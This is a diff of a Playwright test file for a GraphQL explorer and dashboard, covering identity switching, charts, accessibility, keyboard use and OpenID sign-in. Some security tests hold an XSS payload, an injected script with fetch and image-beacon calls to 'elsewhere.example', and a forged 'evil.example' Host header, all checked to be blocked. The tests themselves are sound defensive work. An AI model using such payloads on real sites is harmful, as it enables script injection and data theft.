@@ -1,9 +1,13 @@
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { get, type IncomingMessage } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { Browser, Page } from 'playwright-core';
+import { text } from 'node:stream/consumers';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { packageRoot } from '#base/package-root';
 import { describeInBrowser, openBrowser } from '../support/browser';
-import { freePort, killAll, requireCompiled, run, waitForOutput } from '../support/processes';
+import { freePort, killAll, requireCompiled, run, runProgram, waitForOutput } from '../support/processes';
+import { QUESTIONS } from '../support/questions';
 
 /** Stands in for Apollo's script: it lets the test call the page's own request function. */
 const SANDBOX = 'window.EmbeddedSandbox = class { constructor(options) { window.sandbox = options; } };';
@@ -11,80 +15,254 @@ const SANDBOX = 'window.EmbeddedSandbox = class { constructor(options) { window.
 /** Requires a role. */
 const RESTRICTED = '{ aiToolAdoption { __typename } }';
 
+const AXE = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
+
+let folder: string;
+let browser: Browser;
+let context: BrowserContext;
+let page: Page;
+let complaints: string[];
+
+/** Starts a graph with exercise data. @returns its origin */
+async function startGraph(name: string, args: readonly string[] = []): Promise<string> {
+  const port = await freePort();
+  const start = run(['start', '--port', String(port), '--data', join(folder, name), ...args]);
+  await waitForOutput(start, /The graph answers at/);
+  return `http://localhost:${port}`;
+}
+
+/** Opens a browser tab that reaches `origins` only, and notes what the page's policy blocks. */
+async function openTab(origins: readonly string[], options: Parameters<Browser['newContext']>[0] = {}): Promise<void> {
+  context = await browser.newContext(options);
+  page = await context.newPage();
+  page.setDefaultTimeout(20_000);
+  complaints = [];
+  page.on('pageerror', (error) => complaints.push(error.message));
+  page.on('console', (message) => {
+    if (message.text().includes('Content Security Policy')) complaints.push(message.text());
+  });
+  await page.route(
+    (url) => !origins.includes(url.origin) && !url.protocol.startsWith('blob'),
+    (route) => route.abort(),
+  );
+}
+
+/** What axe-core finds wrong on the page. Its script is not the page's, so it runs beside the policy. */
+async function accessibilityFaults(): Promise<string[]> {
+  await page.evaluate(AXE);
+  const found = await page.evaluate<{ id: string; targets: string[] }[]>(
+    `axe.run().then(({ violations }) => violations.map(({ id, nodes }) => ({ id, targets: nodes.map(({ target }) => target.join(' ')) })))`,
+  );
+  return found.map(({ id, targets }) => `${id}: ${targets.join(', ')}`);
+}
+
+beforeAll(async () => {
+  requireCompiled();
+  folder = mkdtempSync(join(tmpdir(), 'ordergraph-explorer-'));
+});
+afterAll(async () => {
+  await browser?.close();
+  await killAll();
+  rmSync(folder, { recursive: true, force: true });
+});
+
 describeInBrowser('the explorer of `npm start`', () => {
-  let folder: string;
-  let browser: Browser;
-  let page: Page;
   let origin: string;
-  let complaints: string[];
 
   beforeAll(async () => {
-    requireCompiled();
-    folder = mkdtempSync(join(tmpdir(), 'ordergraph-explorer-'));
-    const port = await freePort();
-    const start = run(['start', '--port', String(port), '--data', join(folder, 'data')]);
-    await waitForOutput(start, /The graph answers at/);
-    origin = `http://localhost:${port}`;
+    origin = await startGraph('data');
     browser = await openBrowser();
   });
-  afterAll(async () => {
-    await browser?.close();
-    await killAll();
-    rmSync(folder, { recursive: true, force: true });
-  });
-  beforeEach(async () => {
-    page = await browser.newPage();
-    complaints = [];
-    page.on('pageerror', (error) => complaints.push(error.message));
-    page.on('console', (message) => {
-      if (message.text().includes('Content Security Policy')) complaints.push(message.text());
-    });
-  });
-  afterEach(() => page.close());
+  afterEach(() => context.close());
 
-  /** Opens the page with Apollo's script reachable or not. */
-  async function open(script: string | undefined): Promise<void> {
-    await page.route(
-      (url) => url.origin !== origin,
-      (route) =>
-        script === undefined ? route.abort() : route.fulfill({ contentType: 'text/javascript', body: script }),
+  /** The graph's own answer. */
+  async function ask(query: string, variables: object, who: string) {
+    const token = await page.evaluate<string>(
+      `JSON.parse(document.getElementById('config').textContent).callers.find(({ name }) => name === '${who}').token`,
     );
-    await page.goto(origin);
+    const response = await fetch(`${origin}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
+      body: JSON.stringify({ query, variables }),
+    });
+    // biome-ignore lint/suspicious/noExplicitAny: a test reads what it asked for
+    return ((await response.json()) as { data: any }).data;
   }
 
-  async function answerTo(query: string) {
-    await page.getByLabel('Query').fill(query);
-    const [response] = await Promise.all([
-      page.waitForResponse((reply) => reply.request().method() === 'POST'),
-      page.getByRole('button', { name: 'Run' }).click(),
-    ]);
-    const answer = await response.json();
-    // the page has received it by about the same time
-    const expected = JSON.stringify(answer, null, 2);
-    await page.waitForFunction(`document.getElementById('answer').textContent === ${JSON.stringify(expected)}`);
-    return answer;
-  }
+  const open = async (path = '/explorer', options: Parameters<Browser['newContext']>[0] = {}) => {
+    await openTab([origin], options);
+    await page.goto(`${origin}${path}`);
+  };
+  const askAs = (name: string) => page.getByLabel('Ask as').selectOption(name);
+  const type = async (text: string) => {
+    await page.getByRole('textbox', { name: 'Operation' }).fill(text);
+  };
+  const runIt = async () => {
+    await page.getByRole('button', { name: /^Run/ }).click();
+    await page.locator('.answer[aria-busy=false]').waitFor();
+  };
+  const choose = async (program: string, title: string) => {
+    await page.locator('summary', { hasText: program }).click();
+    await page.getByRole('button', { name: title }).click();
+  };
+  /** Texts of the rows in sight. */
+  const cells = () =>
+    page.evaluate<string[][]>(
+      `[...document.querySelectorAll('.grid tbody tr')].map((row) => [...row.cells].map((cell) => cell.title || cell.innerText))`,
+    );
 
-  test('sends queries as the chosen identity without Apollo Sandbox', async () => {
-    await open(undefined);
-    await page.getByRole('button', { name: 'Run' }).click();
-    await page.getByText('"nodes"').waitFor();
-    expect((await answerTo(RESTRICTED)).data.aiToolAdoption).toBeNull();
-    await page.getByLabel('Ask as').selectOption('Analyst');
-    expect((await answerTo(RESTRICTED)).data.aiToolAdoption).not.toBeNull();
-    await page.getByLabel('Ask as').selectOption('Developer (exercise-alder)');
-    expect((await answerTo(RESTRICTED)).data.aiToolAdoption).toBeNull();
-    await page.getByLabel('Ask as').selectOption('the public');
-    expect((await answerTo('{ sectors(first: 1) { nodes { key } } }')).data.sectors.nodes).toHaveLength(1);
+  test('opens where Apollo Sandbox cannot be reached, and shows a ready question as a table', async () => {
+    await open('/graphql');
+    await page.waitForURL('**/explorer');
+    await askAs('Inspector general');
+    await choose('Voluntary framework', 'Launching in 30 days');
+    await runIt();
+    const text = readFileSync(join(QUESTIONS, '02-launching-soon.graphql'), 'utf8');
+    const variables = JSON.parse(
+      await page.evaluate(`JSON.parse(sessionStorage['ordergraph.tabs']).open[0].variables`),
+    );
+    const { nodes } = (await ask(text, variables, 'Inspector general')).submissions;
+    const expected = nodes.flatMap(({ number, daysToLaunch, determinations }: never) =>
+      (determinations as { nodes: { agency: { key: string } }[] }).nodes.map(({ agency }) => [
+        number,
+        String(daysToLaunch),
+        agency.key,
+      ]),
+    );
+    expect(expected.length).toBeGreaterThan(5);
+    const shown = await cells();
+    expect(shown.map((row) => row.slice(0, 3))).toEqual(expected.slice(0, shown.length));
     expect(complaints).toEqual([]);
   });
 
+  test('changes an operation by clicking, and draws its chart', async () => {
+    await open();
+    await askAs('Analyst');
+    await page.getByRole('searchbox', { name: 'Find a type or field' }).waitFor();
+    await page.getByRole('button', { name: 'Fields of agencies' }).click();
+    await page.getByRole('checkbox', { name: 'agencies.name', exact: true }).check();
+    await page.getByRole('checkbox', { name: 'agencies.medianDaysToRemediate', exact: true }).check();
+    const editor = page.getByRole('textbox', { name: 'Operation' });
+    await expect(editor.innerText()).resolves.toMatch(/agencies \{\s+name\s+medianDaysToRemediate\s+\}/);
+    await page.getByRole('checkbox', { name: 'agencies.name', exact: true }).uncheck();
+    await expect(editor.innerText()).resolves.not.toMatch(/name/);
+    await page.getByRole('checkbox', { name: 'agencies.name', exact: true }).check();
+    await runIt();
+    await page.keyboard.press('Escape');
+    await page.getByRole('tab', { name: 'Chart' }).click();
+    const chart = page.getByRole('img', { name: 'medianDaysToRemediate by name' }).or(page.locator('.chart svg'));
+    await chart.first().waitFor();
+    const { agencies } = await ask('{ agencies { medianDaysToRemediate } }', {}, 'Analyst');
+    const values = agencies.filter(
+      (agency: { medianDaysToRemediate: number | null }) => agency.medianDaysToRemediate !== null,
+    );
+    expect(await page.locator('.chart [aria-label="bar"] rect').count()).toBe(values.length);
+    expect(complaints).toEqual([]);
+  });
+
+  test('sorts rows, limits them to chosen values, and shows figures outside of lists', async () => {
+    await open();
+    await askAs('Analyst');
+    await type('{ sectors(first: 20) { totalCount nodes { key name riskLevel } } }');
+    await runIt();
+    await page.locator('.grid').getByRole('button', { name: 'key', exact: true }).click();
+    await page.locator('.grid').getByRole('button', { name: 'key', exact: true }).click();
+    const keys = (await cells()).map(([key]) => key!);
+    expect(keys).toEqual(keys.toSorted().reverse());
+    expect(keys).toHaveLength(16);
+    const level = page.locator('.facet').first();
+    const [name, count] = [await level.locator('.value').innerText(), await level.locator('.num').innerText()];
+    await level.getByRole('checkbox').check();
+    expect((await cells()).map((row) => row[2])).toEqual(Array(Number(count)).fill(name));
+    await page.getByLabel('List', { exact: true }).selectOption('');
+    expect(await cells()).toEqual([['sectors.totalCount', '16']]);
+  });
+
+  test('says what rights withheld, what an error means, and that a sign-in has ended', async () => {
+    await open();
+    await askAs('the public');
+    await type(RESTRICTED);
+    await runIt();
+    await page.getByText('Query.aiToolAdoption').waitFor();
+    await type('{ sectors { nodes { nam } } }');
+    await runIt();
+    await page.getByText('line 1: Cannot query field "nam" on type "Sector"').waitFor();
+    await type('{ sectors { ');
+    await runIt();
+    await page.getByText('Syntax Error').first().waitFor();
+    await page.evaluate(`sessionStorage['ordergraph.signed-in'] = JSON.stringify({ name: 'someone', token: 'a.b.c' })`);
+    await page.reload();
+    await type('{ sectors(first: 1) { nodes { key } } }');
+    await runIt();
+    await page.getByText('Your sign-in ended').waitFor();
+    expect(await page.getByRole('textbox', { name: 'Operation' }).innerText()).toContain('sectors(first: 1)');
+  });
+
+  test('shows data as text, whatever is in them', async () => {
+    await open();
+    const hostile = '<img src=x onerror="window.injected = true"><script>window.injected = true</script>';
+    await page.route('**/graphql', async (route) => {
+      const response = await route.fetch();
+      const body = await response.text();
+      await route.fulfill({ response, body: body.replaceAll('"Chemical"', JSON.stringify(hostile)) });
+    });
+    await type('{ sectors(first: 20) { nodes { key name } } }');
+    await runIt();
+    expect((await cells()).map(([, name]) => name)).toContain(hostile);
+    await page.getByRole('tab', { name: 'JSON' }).click();
+    await page.getByText('onerror').waitFor();
+    expect(await page.evaluate('window.injected')).toBeUndefined();
+  });
+
+  test.each([
+    ['light', { width: 1440, height: 900 }],
+    ['dark', { width: 1440, height: 900 }],
+    ['light', { width: 390, height: 844 }],
+    ['dark', { width: 3840, height: 2160 }],
+  ] as const)('is accessible and fits, %s, %o', async (colorScheme, viewport) => {
+    await open('/explorer', { colorScheme, viewport });
+    await askAs('Analyst');
+    await choose('Infrastructure', 'Sectors at risk');
+    await runIt();
+    await page.locator('.details').waitFor();
+    expect(await accessibilityFaults()).toEqual([]);
+    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
+    if (viewport.width > 700) {
+      await page.getByRole('button', { name: 'agency', exact: true }).click();
+      await page.getByRole('tab', { name: 'JSON' }).click();
+      expect(await accessibilityFaults()).toEqual([]);
+    }
+  });
+
+  test('works by keyboard alone', async () => {
+    await open();
+    await page.keyboard.press('/');
+    await page.keyboard.type('riskLevel');
+    await page.getByRole('button', { name: 'Sector.riskLevel' }).waitFor();
+    await page.getByRole('textbox', { name: 'Operation' }).focus();
+    await page.keyboard.press('Control+a');
+    await page.keyboard.type('{{ sectors(first: 2) {{ nodes {{ key', { delay: 5 });
+    await page.keyboard.press('Control+Enter');
+    await page.locator('.grid tbody tr').nth(1).waitFor();
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('Tab');
+    expect(await page.evaluate(`document.activeElement.closest('.editor')`)).toBeNull();
+    await page.keyboard.press('3');
+    await page.getByRole('tab', { name: 'JSON', selected: true }).waitFor();
+  });
+
+  test('says what it needs without JavaScript', async () => {
+    await open('/explorer', { javaScriptEnabled: false });
+    await page.getByText('This page needs JavaScript').waitFor();
+  });
+
   test('gives Apollo Sandbox this graph and the chosen identity for every request', async () => {
-    await open(SANDBOX);
+    await openTab([origin]);
+    await page.route(/apollographql\.com/, (route) => route.fulfill({ contentType: 'text/javascript', body: SANDBOX }));
+    await page.goto(`${origin}/graphql`);
     const options = await page.evaluate<{ initialEndpoint: string; target: string }>('window.sandbox');
     expect(options).toMatchObject({ initialEndpoint: `${origin}/graphql`, runTelemetry: false });
     expect(await page.locator(options.target).isVisible()).toBe(true);
-    expect(await page.locator('#plain').isVisible()).toBe(false);
     const request = () =>
       page.evaluate<{ extensions: { withheld?: unknown[] } }>(`sandbox.handleRequest(sandbox.initialEndpoint, {
         method: 'POST',
@@ -92,41 +270,86 @@ describeInBrowser('the explorer of `npm start`', () => {
         body: ${JSON.stringify(JSON.stringify({ query: RESTRICTED }))},
       }).then((response) => response.json())`);
     expect((await request()).extensions.withheld).toMatchObject([{ coordinate: 'Query.aiToolAdoption' }]);
-    await page.getByLabel('Ask as').selectOption('Analyst');
+    await askAs('Analyst');
     expect((await request()).extensions.withheld).toBeUndefined();
     expect(complaints).toEqual([]);
-  });
-
-  test('copies the token of the chosen identity to the clipboard', async () => {
-    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
-    await open(undefined);
-    await page.getByLabel('Ask as').selectOption('Analyst');
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
     await page.getByRole('button', { name: 'Copy token' }).click();
     const copied = await page.evaluate<string>('navigator.clipboard.readText()');
     expect(copied).toBe(await page.getByLabel('Ask as').inputValue());
     expect(copied).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
   });
 
-  test('runs only its own scripts and sends its data to no other site', async () => {
-    await open(undefined);
-    await page.evaluate(`{
+  test.each(['/explorer', '/dashboard'])(
+    '%s runs only its own scripts and sends its data to no other site',
+    async (path) => {
+      await open(path);
+      await page.evaluate(`{
       const script = document.createElement('script');
       script.textContent = 'window.injected = true';
       document.body.append(script);
     }`);
-    expect(await page.evaluate('window.injected')).toBeUndefined();
-    await expect(
-      page.evaluate(`fetch('https://elsewhere.example/?' + document.querySelector('option').value)`),
-    ).rejects.toThrow('Failed to fetch');
-    await expect(
-      page.evaluate(`new Promise((resolve, reject) => {
+      expect(await page.evaluate('window.injected')).toBeUndefined();
+      await expect(page.evaluate(`fetch('https://elsewhere.example/?' + sessionStorage.length)`)).rejects.toThrow(
+        'Failed to fetch',
+      );
+      await expect(
+        page.evaluate(`new Promise((resolve, reject) => {
         const image = new Image();
         image.onload = resolve;
         image.onerror = () => reject(new Error('not loaded'));
         image.src = 'https://elsewhere.example/pixel';
       })`),
-    ).rejects.toThrow('not loaded');
-    for (const directive of ['script-src', 'connect-src', 'img-src'])
-      expect(complaints).toContainEqual(expect.stringContaining(directive));
+      ).rejects.toThrow('not loaded');
+      for (const directive of ['script-src', 'connect-src', 'img-src'])
+        expect(complaints).toContainEqual(expect.stringContaining(directive));
+    },
+  );
+
+  test('gives no page with tokens to other names of this machine', async () => {
+    for (const path of ['/explorer', '/dashboard', '/graphql']) {
+      const response = await new Promise<IncomingMessage>((resolve) =>
+        get(`${origin}${path}`, { headers: { host: 'evil.example', accept: 'text/html' } }, resolve),
+      );
+      expect([path, response.statusCode, (await text(response)).includes('eyJ')]).toEqual([path, 403, false]);
+    }
+  });
+});
+
+describeInBrowser('signing in', () => {
+  test('at an OpenID provider, with PKCE', async () => {
+    const port = await freePort();
+    const origin = `http://localhost:${port}`;
+    const provider = runProgram(process.execPath, [
+      join(packageRoot, 'test', 'support', 'sign-in-provider.mjs'),
+      `${origin}/signed-in`,
+    ]);
+    const [, issuer] = await waitForOutput(provider, /Provider (http\S+)/);
+    const issuers = join(folder, 'issuers.json');
+    writeFileSync(issuers, JSON.stringify([{ issuer, audience: 'https://ordergraph.example', roles: ['analyst'] }]));
+    const start = run([
+      ...['start', '--port', String(port), '--data', join(folder, 'signed-in'), '--scale', '1', '--auth', issuers],
+      ...['--sign-in-issuer', issuer!, '--sign-in-client', 'ordergraph-pages'],
+    ]);
+    await waitForOutput(start, /The graph answers at/);
+    browser = await openBrowser();
+    await openTab([origin, issuer!]);
+    await page.goto(`${origin}/graphql`);
+    await page.waitForURL('**/explorer');
+    await page.getByText('the public').waitFor();
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.locator('input[name=login]').fill('Ada Analyst');
+    await page.locator('input[name=password]').fill('anything');
+    await page.locator('button[type=submit]').click();
+    await page.locator('button[type=submit]').click();
+    await page.waitForURL('**/explorer');
+    await page.getByText('Ada Analyst').waitFor();
+    await page.getByRole('textbox', { name: 'Operation' }).fill(RESTRICTED);
+    await page.getByRole('button', { name: /^Run/ }).click();
+    await page.locator('.answer[aria-busy=false]').waitFor();
+    await page.getByText('No rule takes anything away').waitFor();
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.getByText('the public').waitFor();
+    expect(complaints).toEqual([]);
   });
 });
